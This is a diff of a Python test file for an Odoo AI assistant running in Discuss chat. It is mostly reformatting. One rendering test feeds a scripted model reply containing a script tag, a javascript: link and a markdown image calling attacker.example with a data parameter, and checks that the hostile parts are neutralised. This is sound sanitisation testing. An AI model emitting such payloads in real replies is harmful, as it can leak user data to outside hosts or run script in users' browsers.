@@ -1,5 +1,6 @@
 """The assistant in Discuss: the same loop, run after the user's message is committed, answered
 with a message carrying a compact summary of its tool calls."""
+
 from odoo.tests import tagged
 
 from odoo.addons.ai_mcp.testing.scripted_llm import ToolCall, Turn
@@ -26,13 +27,16 @@ class TestChatDiscuss(ChatCase):
     def replies(self, channel=None):
         channel = channel or self.channel
         return self.env["mail.message"].search(
-            [("model", "=", "discuss.channel"), ("res_id", "=", channel.id), ("author_id", "=", self.partner.id)], order="id"
+            [("model", "=", "discuss.channel"), ("res_id", "=", channel.id), ("author_id", "=", self.partner.id)],
+            order="id",
         )
 
     def test_the_assistant_has_a_partner_and_a_chat(self):
         self.assertEqual(self.partner.name, "Helper")
         self.assertEqual(self.channel.channel_type, "chat")
-        self.assertEqual(set(self.channel.channel_member_ids.partner_id.ids), {self.partner.id, self.user.partner_id.id})
+        self.assertEqual(
+            set(self.channel.channel_member_ids.partner_id.ids), {self.partner.id, self.user.partner_id.id}
+        )
         self.assertEqual(self.assistant.with_user(self.user)._discuss_chat(), self.channel, "the same chat again")
         action = self.assistant.with_user(self.user).action_open_discuss_chat()
         self.assertEqual(action["params"]["active_id"], f"discuss.channel_{self.channel.id}")
@@ -66,13 +70,20 @@ class TestChatDiscuss(ChatCase):
         self.llm.queue(Turn(text="You asked for 2 + 3."))
         replies = self.say("What did I ask?")
         self.assertIn("You asked for 2 + 3.", str(replies[-1].body))
-        self.assertEqual([m["role"] for m in self.llm.requests[-1]["messages"]], ["system", "user", "assistant", "tool", "assistant", "user"])
+        self.assertEqual(
+            [m["role"] for m in self.llm.requests[-1]["messages"]],
+            ["system", "user", "assistant", "tool", "assistant", "user"],
+        )
 
     def test_the_answer_markdown_is_rendered_and_its_html_is_not(self):
-        self.llm.queue(Turn(text=(
-            "**2 orders** are late:\n\n- `SO001`\n- SO002\n\n[Open them](https://example.com/orders)"
-            " <script>alert(1)</script> [bad](javascript:alert(1)) ![pixel](https://attacker.example/p.png?d=x)"
-        )))
+        self.llm.queue(
+            Turn(
+                text=(
+                    "**2 orders** are late:\n\n- `SO001`\n- SO002\n\n[Open them](https://example.com/orders)"
+                    " <script>alert(1)</script> [bad](javascript:alert(1)) ![pixel](https://attacker.example/p.png?d=x)"
+                )
+            )
+        )
         body = str(self.say("Which orders are late?").body)
         self.assertIn("<strong>2 orders</strong> are late:", body)
         self.assertIn("<li><code>SO001</code></li>", body)
